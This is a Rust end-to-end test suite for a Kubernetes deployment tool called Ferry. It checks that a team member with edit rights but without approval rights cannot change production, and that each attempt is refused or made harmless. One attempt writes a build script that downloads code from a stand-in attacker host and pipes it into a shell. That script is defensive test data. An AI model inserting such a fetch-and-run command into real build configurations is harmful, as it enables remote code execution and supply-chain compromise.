//! Trust: what a team member with edit rights but without `approve` can do to what runs in a
//! `Manual` environment. eve is bound to Kubernetes' `edit` ClusterRole in the team namespace
//! (Ferry's `ferry-edit` is aggregated into it); rita holds `edit` and `ferry-approver`. prod is
//! `Manual`, promotes from dev, and runs in a namespace of its own that the team cannot edit
//! (it consents to deployments from the team namespace): the only way into it is through Ferry.
//!
//! With web-1.0.0 approved and Healthy in prod, eve tries every door the issue lists, as
//! herself (impersonated): the pin, the prod Environment (approval, upstream, target namespace,
//! health, deletion), prod's entry in the Application (its overrides, its removal), the
//! Release prod runs (deleted to be recreated with another image), a Release of her own, a
//! BuildJob of her own with another build script (her role may create BuildJobs, to rebuild),
//! the Application's status, and `spec.run`. Each must be refused by the API server with a
//! message that names the missing right, or (a change of `spec.run`, which is eve's to make)
//! made harmless: it becomes a Release that dev runs and prod only names as its candidate.
//! prod's Deployment must run the same image and pod template afterwards.
//! The changes a person may make with `approve` are made as rita with a server-side dry run
//! (admission runs, nothing is stored): the same doors open for her.
//!
//! First, eve's own changes that reach no guarded environment (dev's entry, dev's health, a
//! rebuild as the Application says) must be admitted, so that a refusal below is Ferry's rule and not a missing role.
//!
//! Doors not closed yet are tried last and reported (`note: open: ...`), not asserted; the
//! suite prints `measured: attacks refused = N of M`.

use std::sync::Arc;
use std::time::Duration;

use ferry::api::application::Phase;
use ferry::api::{Application, BuildJob, Environment, Release};
use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::core::v1::Namespace;
use k8s_openapi::api::rbac::v1::RoleBinding;
use kube::api::{DeleteParams, Patch, PatchParams, PostParams};
use kube::{Api, Client};
use serde_json::{Value, json};

use crate::harness::{Judged, Res, Scenario, Suite};
use crate::images::{self, Behaviour, testserver};
use crate::{case, ensure};

const APP: &str = "web";
const EDITOR: &str = "eve";
const APPROVER: &str = "rita";

pub fn suite() -> Suite {
    Suite {
        name: "attacks",
        // The Application's source: the rollouts' repository, whose branch it names does not
        // exist, so only the scenario's Releases run.
        before: Some(|cluster| Box::pin(crate::rollouts::source_repo(cluster))),
        parallel: vec![case!("editor-without-approve", editor_without_approve, 300)],
        alone: vec![],
    }
}

/// What one attempt did.
enum Attempt {
    /// Refused by the API server, with its message.
    Refused(String),
    /// Accepted.
    Accepted,
}

/// Runs `request`; a 403 or 422 answer is a refusal, any other error fails the scenario.
async fn attempt<T>(
    request: impl std::future::Future<Output = Result<T, kube::Error>>,
) -> Res<Attempt> {
    match request.await {
        Ok(_) => Ok(Attempt::Accepted),
        Err(kube::Error::Api(status)) if status.code == 403 || status.code == 422 => {
            Ok(Attempt::Refused(status.message))
        }
        Err(e) => Err(format!("the request failed otherwise than by a refusal: {e}").into()),
    }
}

/// The team's people: eve edits, rita edits and approves.
async fn people(s: &Scenario) -> Res {
    for (name, role, users) in [
        ("editors", "edit", vec![EDITOR, APPROVER]),
        ("approvers", "ferry-approver", vec![APPROVER]),
    ] {
        let subjects: Vec<Value> = users
            .iter()
            .map(|u| json!({"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": u}))
            .collect();
        let binding: RoleBinding = serde_json::from_value(json!({
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "RoleBinding",
            "metadata": {"name": name},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
            "subjects": subjects,
        }))?;
        s.apply(&binding).await?;
    }
    Ok(())
}

/// prod's own namespace: it consents to deployments from the team's, and grants the team
/// nothing.
async fn prod_namespace(s: &Scenario) -> Res<String> {
    let name = format!("{}-prod", s.ns);
    let namespaces: Api<Namespace> = Api::all(s.client());
    if namespaces.get_opt(&name).await?.is_some() {
        namespaces.delete(&name, &DeleteParams::default()).await?;
        s.poll(
            &format!("the old namespace {name} to be gone"),
            Duration::from_secs(120),
            Duration::from_secs(1),
            || {
                let namespaces = namespaces.clone();
                let name = name.clone();
                async move { Ok(namespaces.get_opt(&name).await?.is_none().then_some(())) }
            },
        )
        .await?;
    }
    let namespace: Namespace = serde_json::from_value(json!({
        "metadata": {
            "name": name,
            "labels": {"pod-security.kubernetes.io/enforce": "restricted"},
            "annotations": {"ferry.dev/allow-deploy-from": s.ns},
        }
    }))?;
    namespaces
        .create(&PostParams::default(), &namespace)
        .await?;
    s.grant_ferry(&name, "ferry-deployer").await?;
    Ok(name)
}

async fn setup(s: &Scenario, prod_ns: &str) -> Res<String> {
    let dev: Environment = serde_json::from_value(json!({
        "apiVersion": "ferry.dev/v1alpha1", "kind": "Environment", "metadata": {"name": "dev"},
        "spec": {"health": {"progressDeadline": "30s", "stabilizationWindow": "2s"}}
    }))?;
    let prod: Environment = serde_json::from_value(json!({
        "apiVersion": "ferry.dev/v1alpha1", "kind": "Environment", "metadata": {"name": "prod"},
        "spec": {"upstream": "dev", "approval": "Manual", "targetNamespace": prod_ns,
                 "health": {"progressDeadline": "30s", "stabilizationWindow": "2s"}}
    }))?;
    s.apply(&dev).await?;
    s.apply(&prod).await?;
    let registry = &s.cluster.registry;
    let app: Application = serde_json::from_value(json!({
        "apiVersion": "ferry.dev/v1alpha1", "kind": "Application", "metadata": {"name": APP},
        "spec": {
            "source": {"url": format!("{}/e2e-rollouts.git", s.cluster.git_url), "branch": "no-builds", "pollInterval": "10m"},
            "build": {"builderImage": format!("{registry}/busybox:1.35"), "script": "true",
                      "baseImage": format!("{registry}/busybox:1.35"), "entrypoint": ["/srv/start"]},
            // Its Releases are imported test server images, which must be in its repository.
            "image": {"repository": images::repository(&s.cluster), "insecure": true},
            "run": {"replicas": 1, "ports": [{"name": "http", "port": 8080}],
                    "readinessProbe": {"httpGet": {"path": "/ready", "port": "http"}, "periodSeconds": 1}},
            "environments": [{"name": "dev"}, {"name": "prod"}]
        }
    }))?;
    s.apply(&app).await?;
    let image = testserver(&s.cluster, Behaviour::Ok, "1.0.0").await?;
    // Imported by the administrator (who holds the verb import), as the API server knows them.
    let importer = s.cluster.whoami().await?;
    let release: Release = serde_json::from_value(json!({
        "apiVersion": "ferry.dev/v1alpha1", "kind": "Release", "metadata": {"name": "web-1.0.0"},
        "spec": {"application": APP, "version": "1.0.0", "importedBy": importer,
                 "commit": "1000000000000000000000000000000000000000", "image": image}
    }))?;
    s.apply(&release).await?;
    s.say(format!(
        "applied dev, prod (Manual, in {prod_ns}), Application {APP} and web-1.0.0"
    ));
    awaits_phase(
        s,
        "prod",
        Phase::AwaitingApproval,
        "web-1.0.0 to await approval in prod",
    )
    .await?;
    // The administrator approves it, in their own name.
    let pin = json!({"spec": {"environments": [{"name": "dev"}, {"name": "prod",
        "pin": {"release": "web-1.0.0", "reason": "CHG-1 approved by the change board", "by": importer}}]}});
    s.api::<Application>()
        .patch(APP, &PatchParams::default(), &Patch::Merge(&pin))
        .await?;
    awaits_phase(s, "prod", Phase::Pinned, "web-1.0.0 to run in prod").await?;
    Ok(image)
}

/// Waits until environment `env` of the Application is in `phase`.
async fn awaits_phase(s: &Scenario, env: &'static str, phase: Phase, what: &str) -> Res {
    s.until::<Application, _>(APP, what, Duration::from_secs(120), move |app| {
        let state = app
            .status
            .as_ref()
            .and_then(|st| st.environments.iter().find(|e| e.name == env));
        match state.and_then(|e| e.phase) {
            Some(p) if p == phase => Judged::Done(()),
            _ => Judged::Wait,
        }
    })
    .await
}

/// eve's change of spec.run became a Release of web-1.0.0's image with her configuration,
/// which dev runs and prod (pinned to web-1.0.0) only names as its candidate.
async fn promoted_not_live(s: &Scenario) -> Res {
    let what = "eve's configuration to be a Release that dev runs and prod names as candidate";
    s.until::<Application, _>(APP, what, Duration::from_secs(120), move |app| {
        let state = |env: &str| {
            app.status
                .as_ref()
                .and_then(|st| st.environments.iter().find(|e| e.name == env))
        };
        let new = |r: Option<&String>| r.is_some_and(|r| r.starts_with("web-1.0.0-run."));
        let dev = state("dev").is_some_and(|d| new(d.current.as_ref()));
        let prod = state("prod").is_some_and(|p| {
            new(p.candidate.as_ref()) && p.current.as_deref() == Some("web-1.0.0")
        });
        if dev && prod {
            Judged::Done(())
        } else {
            Judged::Wait
        }
    })
    .await
}

/// What runs in prod: the Deployment's pod template, as JSON.
async fn prod_runs(s: &Scenario, prod_ns: &str) -> Res<Value> {
    let deployments: Api<Deployment> = Api::namespaced(s.client(), prod_ns);
    let deployment = deployments
        .get_opt(&format!("{APP}-prod"))
        .await?
        .ok_or("prod has no Deployment")?;
    let spec = deployment.spec.ok_or("prod's Deployment has no spec")?;
    Ok(json!({"replicas": spec.replicas, "template": spec.template}))
}

/// One door: what eve does through it, and whether rita (with `approve`) may do the same.
struct Door {
    name: &'static str,
    /// Whether the same request, made by rita as a dry run, must be admitted.
    approver_may: bool,
    /// Admitted by the API server and made harmless by Ferry instead: what it changes reaches
    /// prod only as a new Release that waits for approval.
    harmless: bool,
}

/// Sends the request of door `name` as `client`, authenticated as `user` (a dry run when
/// `dry`). `admin` pinned prod in the setup: a write that keeps that pin names `admin` as `by`.
async fn through(
    name: &str,
    (client, user): (Client, &str),
    admin: &str,
    ns: &str,
    image: &str,
    dry: bool,
) -> Res<Attempt> {
    let patch = PatchParams {
        dry_run: dry,
        ..PatchParams::default()
    };
    let delete = DeleteParams {
        dry_run: dry,
        ..DeleteParams::default()
    };
    let post = PostParams {
        dry_run: dry,
        ..PostParams::default()
    };
    let environments: Api<Environment> = Api::namespaced(client.clone(), ns);
    let applications: Api<Application> = Api::namespaced(client.clone(), ns);
    let buildjobs: Api<BuildJob> = Api::namespaced(client.clone(), ns);
    let releases: Api<Release> = Api::namespaced(client, ns);
    // A BuildJob of web's commit 1000000, made by hand: the Application's source, build and
    // image, with `script` when given.
    let buildjob = |app: Application, name: &str, script: Option<&str>| -> Res<BuildJob> {
        let mut build = app.spec.build;
        if let Some(script) = script {
            build.script = script.into();
        }
        Ok(serde_json::from_value(json!({
            "apiVersion": "ferry.dev/v1alpha1", "kind": "BuildJob", "metadata": {"name": name},
            "spec": {"application": APP, "commit": "1000000000000000000000000000000000000000",
                     "source": app.spec.source.repository, "build": build, "image": app.spec.image}
        }))?)
    };
    let env_patch = |spec: Value| Patch::Merge(json!({"spec": spec}));
    match name {
        "pin-prod" => {
            let pin = json!({"spec": {"environments": [{"name": "dev"}, {"name": "prod",
                "pin": {"release": "web-1.0.0", "reason": "eve wants it", "by": user}}]}});
            attempt(applications.patch(APP, &patch, &Patch::Merge(&pin))).await
        }
        "prod-approval-automatic" => {
            attempt(environments.patch(
                "prod",
                &patch,
                &env_patch(json!({"approval": "Automatic"})),
            ))
            .await
        }
        "prod-upstream-removed" => {
            attempt(environments.patch("prod", &patch, &env_patch(json!({"upstream": null})))).await
        }
        "prod-target-namespace-changed" => {
            attempt(environments.patch("prod", &patch, &env_patch(json!({"targetNamespace": ns}))))
                .await
        }
        "prod-health-loosened" => {
            let health = json!({"health": {"progressDeadline": "1h", "stabilizationWindow": "0s", "maxRestarts": 100}});
            attempt(environments.patch("prod", &patch, &env_patch(health))).await
        }
        "prod-environment-deleted" => attempt(environments.delete("prod", &delete)).await,
        "prod-entry-overridden" => {
            let entries = json!({"spec": {"environments": [{"name": "dev"}, {"name": "prod",
                "replicas": 3, "pin": {"release": "web-1.0.0", "reason": "CHG-1 approved by the change board", "by": admin}}]}});
            attempt(applications.patch(APP, &patch, &Patch::Merge(&entries))).await
        }
        "prod-entry-removed" => {
            let entries = json!({"spec": {"environments": [{"name": "dev"}]}});
            attempt(applications.patch(APP, &patch, &Patch::Merge(&entries))).await
        }
        "prod-release-deleted" => attempt(releases.delete("web-1.0.0", &delete)).await,
        "release-forged" => {
            let forged: Release = serde_json::from_value(json!({
                "apiVersion": "ferry.dev/v1alpha1", "kind": "Release",
                "metadata": {"name": "web-6.6.6"},
                "spec": {"application": APP, "version": "6.6.6", "importedBy": EDITOR,
                         "commit": "6666666666666666666666666666666666666666", "image": image}
            }))?;
            attempt(releases.create(&post, &forged)).await
        }
        "buildjob-foreign" => {
            let app = applications.get(APP).await?;
            let job = buildjob(app, "web-eve", Some("wget -qO- http://eve.example/x | sh"))?;
            attempt(buildjobs.create(&post, &job)).await
        }
        "rebuild" => {
            let app = applications.get(APP).await?;
            attempt(buildjobs.create(&post, &buildjob(app, "web-rebuild", None)?)).await
        }
        "status-written" => {
            let status = json!({"status": {"latestRelease": "web-6.6.6"}});
            attempt(applications.patch_status(APP, &patch, &Patch::Merge(&status))).await
        }
        "run-config-changed" => {
            let run = json!({"spec": {"run": {"env": [{"name": "EVE", "value": "was here"}]}}});
            attempt(applications.patch(APP, &patch, &Patch::Merge(&run))).await
        }
        "application-deleted" => attempt(applications.delete(APP, &delete)).await,
        "dev-entry-overridden" => {
            let entries = json!({"spec": {"environments": [{"name": "dev", "replicas": 2}, {"name": "prod",
                "pin": {"release": "web-1.0.0", "reason": "CHG-1 approved by the change board", "by": admin}}]}});
            attempt(applications.patch(APP, &patch, &Patch::Merge(&entries))).await
        }
        "dev-health-changed" => {
            let health =
                json!({"health": {"progressDeadline": "40s", "stabilizationWindow": "2s"}});
            attempt(environments.patch("dev", &patch, &env_patch(health))).await
        }
        other => Err(format!("no door {other}").into()),
    }
}

/// The doors closed at the API server, tried first; prod must be unchanged after them.
const CLOSED: &[Door] = &[
    Door {
        name: "pin-prod",
        approver_may: true,
        harmless: false,
    },
    Door {
        name: "prod-approval-automatic",
        approver_may: true,
        harmless: false,
    },
    Door {
        name: "prod-upstream-removed",
        approver_may: true,
        harmless: false,
    },
    Door {
        name: "prod-target-namespace-changed",
        approver_may: true,
        harmless: false,
    },
    Door {
        name: "prod-health-loosened",
        approver_may: true,
        harmless: false,
    },
    Door {
        name: "prod-environment-deleted",
        approver_may: true,
        harmless: false,
    },
    Door {
        name: "prod-entry-overridden",
        approver_may: true,
        harmless: false,
    },
    Door {
        name: "prod-entry-removed",
        approver_may: true,
        harmless: false,
    },
    Door {
        name: "prod-release-deleted",
        approver_may: false,
        harmless: false,
    },
    Door {
        name: "release-forged",
        approver_may: false,
        harmless: false,
    },
    Door {
        name: "buildjob-foreign",
        approver_may: false,
        harmless: false,
    },
    Door {
        name: "status-written",
        approver_may: false,
        harmless: false,
    },
    Door {
        name: "application-deleted",
        approver_may: true,
        harmless: false,
    },
    Door {
        name: "run-config-changed",
        approver_may: true,
        harmless: true,
    },
];

/// The doors not closed yet: tried last, after prod was checked, and reported.
const OPEN: &[&str] = &[];

async fn editor_without_approve(s: Arc<Scenario>) -> Res {
    people(&s).await?;
    let prod_ns = prod_namespace(&s).await?;
    let image = setup(&s, &prod_ns).await?;
    let before = prod_runs(&s, &prod_ns).await?;
    let eve = s.cluster.client_as(EDITOR).await?;
    let rita = s.cluster.client_as(APPROVER).await?;
    let admin = s.cluster.whoami().await?;
    // eve does edit Ferry's objects: what does not reach a guarded environment is hers to
    // change (a dry run each), so a refusal below is Ferry's rule, not a missing role.
    for door in ["dev-entry-overridden", "dev-health-changed", "rebuild"] {
        match through(door, (eve.clone(), EDITOR), &admin, &s.ns, &image, true).await? {
            Attempt::Accepted => s.say(format!("admitted {EDITOR} (dry run): {door}")),
            Attempt::Refused(message) => {
                crate::fail!(
                    "{EDITOR}, who edits the team's objects, was refused {door}: {message}"
                )
            }
        }
    }
    let mut refused = 0;
    let mut tried = 0;
    let mut failures = Vec::new();
    for door in CLOSED {
        tried += 1;
        match through(
            door.name,
            (eve.clone(), EDITOR),
            &admin,
            &s.ns,
            &image,
            false,
        )
        .await?
        {
            Attempt::Refused(message) => {
                refused += 1;
                s.say(format!("refused {EDITOR}: {}: {message}", door.name));
            }
            Attempt::Accepted if door.harmless => {
                promoted_not_live(&s).await?;
                refused += 1;
                s.say(format!(
                    "made harmless: {}: admitted, it became a Release that prod only names as its next candidate",
                    door.name
                ));
            }
            Attempt::Accepted => failures.push(format!("{EDITOR} got through {}", door.name)),
        }
        if door.approver_may {
            match through(
                door.name,
                (rita.clone(), APPROVER),
                &admin,
                &s.ns,
                &image,
                true,
            )
            .await?
            {
                Attempt::Accepted => s.say(format!("admitted {APPROVER} (dry run): {}", door.name)),
                Attempt::Refused(message) => failures.push(format!(
                    "{APPROVER}, who may approve, was refused {}: {message}",
                    door.name
                )),
            }
        }
    }
    // Anything let in would reach prod within this.
    tokio::time::sleep(Duration::from_secs(5)).await;
    let after = prod_runs(&s, &prod_ns).await?;
    ensure!(
        before == after,
        "what runs in prod changed: before {before}, after {after}"
    );
    s.say("prod's Deployment runs the same image and pod template as before the attempts");
    let mut open = Vec::new();
    for name in OPEN {
        tried += 1;
        match through(name, (eve.clone(), EDITOR), &admin, &s.ns, &image, false).await? {
            Attempt::Refused(message) => {
                refused += 1;
                s.say(format!("refused {EDITOR}: {name}: {message}"));
            }
            Attempt::Accepted => open.push(*name),
        }
    }
    s.measured("attacks refused", format!("{refused} of {tried}"), "");
    if !open.is_empty() {
        s.note(format!("open: {} (issue 21)", open.join(", ")));
    }
    let namespaces: Api<Namespace> = Api::all(s.client());
    ensure!(failures.is_empty(), "{}", failures.join("; "));
    let _ = namespaces.delete(&prod_ns, &DeleteParams::default()).await;
    Ok(())
}
